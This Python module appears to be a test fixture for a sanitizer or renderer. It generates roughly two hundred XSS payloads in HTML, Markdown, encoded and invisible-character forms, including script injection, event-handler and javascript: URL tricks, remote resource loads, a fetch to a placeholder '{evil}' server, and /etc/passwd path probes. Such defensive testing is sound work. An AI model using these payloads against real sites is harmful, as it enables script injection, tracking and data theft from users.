"""Two hundred XSS payloads that try to run, load, style, link or hide something.

`{evil}` stands for a server that no request may reach.
"""

_RUN = "window.pwned=1;fetch('{evil}/run')"

_HTML = f"""
<script>{_RUN}</script>
<script src={{evil}}/a.js></script>
<img src=x onerror="{_RUN}">
<img src={{evil}}/b.png>
<img srcset="{{evil}}/c.png 2x">
<svg onload="{_RUN}">
<svg><script>{_RUN}</script></svg>
<svg><image href="{{evil}}/d.png"/></svg>
<svg><use href="{{evil}}/e.svg#x"/></svg>
<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>
<svg><animate attributeName=href values="javascript:{_RUN}"/></svg>
<svg><style>*{{background:url({{evil}}/f)}}</style></svg>
<svg><foreignObject><iframe src={{evil}}></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}">
<math href="javascript:{_RUN}">x</math>
<iframe src={{evil}}></iframe>
<iframe srcdoc="<script>{_RUN}</script>"></iframe>
<object data={{evil}}></object>
<embed src={{evil}}>
<applet code={{evil}}></applet>
<frameset onload="{_RUN}"></frameset>
<form action={{evil}}><input name=a autofocus onfocus="{_RUN}"></form>
<input type=image src={{evil}}/g.png>
<button formaction={{evil}}>x</button>
<textarea autofocus onfocus="{_RUN}">
<select onfocus="{_RUN}" autofocus>
<video src={{evil}}/h.mp4 poster={{evil}}/h.png></video>
<audio src={{evil}}/i.mp3 autoplay></audio>
<video><source onerror="{_RUN}"></video>
<track src={{evil}}/j.vtt>
<link rel=stylesheet href={{evil}}/k.css>
<link rel=prefetch href={{evil}}/l>
<link rel=dns-prefetch href={{evil}}>
<meta http-equiv=refresh content="0;url={{evil}}">
<base href={{evil}}/>
<style>@import '{{evil}}/m.css';</style>
<style>*{{background:url({{evil}}/n)}}</style>
<style>:host{{display:none!important}}</style>
<div style="background:url({{evil}}/o)">x</div>
<div style="position:fixed;inset:0;z-index:9">x</div>
<p style=animation-name:x onanimationstart="{_RUN}">x</p>
<a href="javascript:{_RUN}">x</a>
<a href="{{evil}}" ping="{{evil}}/p">x</a>
<a href="data:text/html,<script>{_RUN}</script>">x</a>
<a href=" &#106;avascript:{_RUN}">x</a>
<a href="vbscript:x">x</a>
<body onload="{_RUN}" background={{evil}}/q.png>
<table background={{evil}}/r.png><td background={{evil}}/s.png>x</table>
<details open ontoggle="{_RUN}">x</details>
<dialog open>x</dialog>
<marquee onstart="{_RUN}">x</marquee>
<template><img src=x onerror="{_RUN}"></template>
<slot name=header>x</slot>
<slot onslotchange="{_RUN}"></slot>
<footnote-chat server={{evil}}></footnote-chat>
<x-evil onclick="{_RUN}" tabindex=1 autofocus onfocus="{_RUN}">x</x-evil>
<noscript><p title="</noscript><img src=x onerror='{_RUN}'>">
<p id=proof class=chip data-n=1>x</p>
<a name=body id=attributes>x</a>
<!--><img src=x onerror="{_RUN}">-->
<![CDATA[<img src=x onerror="{_RUN}">]]>
<?xml-stylesheet href={{evil}}/t.css?>
<!DOCTYPE html SYSTEM "{{evil}}/u.dtd">
<img/src="x"/onerror="{_RUN}"
<<img src=x onerror="{_RUN}">
<iMg SrC=x oNeRrOr="{_RUN}">
</p></div></template><img src=x onerror="{_RUN}">
"""

_MARKDOWN = f"""
![x]({{evil}}/a.png)
![x]({{evil}}/b.png "t")
![x][r]{{nl}}{{nl}}[r]: {{evil}}/c.png
[x]({{evil}})
[x](javascript:{_RUN})
[x](JaVaScRiPt:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](<javascript:alert(1)>)
[x](&#106;avascript:alert(1))
[x](java&NewLine;script:alert(1))
[x](//127.0.0.1/x)
[x](file:///etc/passwd)
[x][r]{{nl}}{{nl}}[r]: javascript:alert(1)
[r]{{nl}}{{nl}}[r]: {{evil}} 'x'
[1]({{evil}})
[1]: {{evil}}
[[1]]({{evil}})
![[1]]({{evil}}/d.png)
<{{evil}}>
<javascript:alert(1)>
{{evil}}/bare
www.example.com/bare
mailto:a@example.com?body={{evil}}
[![x]({{evil}}/e.png)]({{evil}})
- ![x]({{evil}}/f.png)
1. <img src={{evil}}/g.png>
> <iframe src={{evil}}></iframe>
# <img src={{evil}}/h.png>
| a |{{nl}}|---|{{nl}}| <img src={{evil}}/i.png> |
| ![x]({{evil}}/j.png) |{{nl}}|:-:|{{nl}}| x |
```html{{nl}}<img src={{evil}}/k.png>{{nl}}```
```"onmouseover="alert(1){{nl}}x{{nl}}```
`<img src={{evil}}/l.png>`
    <script>{_RUN}</script>
~~~{{nl}}</code></pre><script>{_RUN}</script>{{nl}}~~~
**<img src=x onerror="{_RUN}">**
*[x](javascript:alert(1))*
~~<svg onload="{_RUN}">~~
- [ ] <input autofocus onfocus="{_RUN}">
- [x] ![x]({{evil}}/m.png)
[^1]: <img src={{evil}}/n.png>
[x]({{evil}} "<img src=x onerror={_RUN}>")
[x]({{evil}} 'a" onmouseover="alert(1)')
![" onerror="alert(1)]({{evil}}/o.png)
![x]({{evil}}/p.png" onerror="alert(1))
<div>{{nl}}{{nl}}![x]({{evil}}/q.png){{nl}}{{nl}}</div>
<!-- {{nl}}{{nl}}<img src={{evil}}/r.png> -->
\\<img src={{evil}}/s.png>
\\[x](javascript:alert(1))
---{{nl}}<script>{_RUN}</script>{{nl}}---
$${{nl}}\\href{{javascript:alert(1)}}{{x}}{{nl}}$$
{{{{constructor.constructor('alert(1)')()}}}}
${{alert(1)}}
"""

_OTHER = """
&lt;img src={evil}/a.png&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
javascript:alert(1)
data:text/html,<script>alert(1)</script>
url({evil}/b)
@import url({evil}/c);
expression(alert(1))
"><script>alert(1)</script>
'><img src={evil}/d.png>
`${alert(1)}`
" onmouseover="alert(1)" x="
' autofocus onfocus='alert(1)
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<?lit$1$?>
<!--?lit$1$-->
{{lit-1}}
<!--[if IE]><script>alert(1)</script><![endif]-->
../../../etc/passwd
C:\\windows\\win.ini
file.txt?q=<script>alert(1)</script>
constructor
__proto__
toString
[object Object]
"""

_HIDDEN = [
    "<\u200bscript>alert(1)</script>",
    "<scr\u200cipt>alert(1)</script>",
    "<img\u00a0src={evil}/z.png>",
    "<img\u3000src={evil}/y.png onerror=alert(1)>",
    "\u202e<tpircs>alert(1)",
    "\u2066[x](java\u200bscript:alert(1))\u2069",
    "[x](java\u0000script:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "\ufeff<img src={evil}/x.png>",
    "\u2028<img src={evil}/w.png>\u2029",
    "<img src={evil}/v.png\u0000>",
    "＜img src={evil}/u.png＞",
    "<ı̇mg src={evil}/t.png>",
    "<ſcript>alert(1)</ſcript>",
    "\r\n<img src={evil}/s.png>\r",
    "\x1b]8;;{evil}\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[2J<img src={evil}/r.png>",
    "[1\u200b]({evil})",
    "[\u0661] [１] [1]",
    "\U000e0041\U000e0042 tags",
    "a\u0301" * 50 + "<img src={evil}/q.png>",
    "[1]" * 60,
    "[" * 200 + "x" + "](" * 50,
    "*" * 300,
    "`" * 301,
    "> " * 60 + "<img src={evil}/p.png>",
    "- " * 40 + "![x]({evil}/o.png)",
    "<" * 300,
    "&" * 300,
    "|" * 100 + "\n" + "|-" * 100,
    "<a " + "x=1 " * 100 + "onclick=alert(1)>x</a>",
    "<svg/" * 40 + "onload=alert(1)>",
    "<div>" * 60 + "<script>alert(1)</script>",
    "[x]: <javascript:alert(1)>\n[x]",
    "http://127.0.0.1:1/`<img src={evil}/n.png>`",
    '<https://127.0.0.1/"onmouseover="alert(1)>',
    "https://127.0.0.1/<script>alert(1)</script>",
    "a@b.c<img src={evil}/m.png>",
    "\ud83d\ude00<img src={evil}/l.png>\ud83d\ude00",
    "NO_ANSWER<script>alert(1)</script>",
    "event: done\ndata: {}\n\n<script>alert(1)</script>",
    "data: [DONE]\n\n<img src={evil}/k.png>",
    '{"answer": "<script>alert(1)</script>"}',
    "<style>@font-face{font-family:x;src:url({evil}/f)}</style>",
    "<p is=footnote-chat>x</p>",
    "<link rel=modulepreload href={evil}/j.js>",
    "<img loading=lazy src={evil}/i.png>",
    "<picture><source srcset={evil}/h.png><img></picture>",
]


def xss_payloads(evil: str) -> list[str]:
    """Returns the payloads with `{evil}` replaced by this URL."""
    lines = [
        *_HTML.strip().split("\n"),
        *_MARKDOWN.strip().split("\n"),
        *_OTHER.strip().split("\n"),
    ]
    templates = [line.replace("{nl}", "\n") for line in lines] + _HIDDEN
    return [
        text.replace("{{", "{").replace("}}", "}").replace("{evil}", evil) for text in templates
    ]
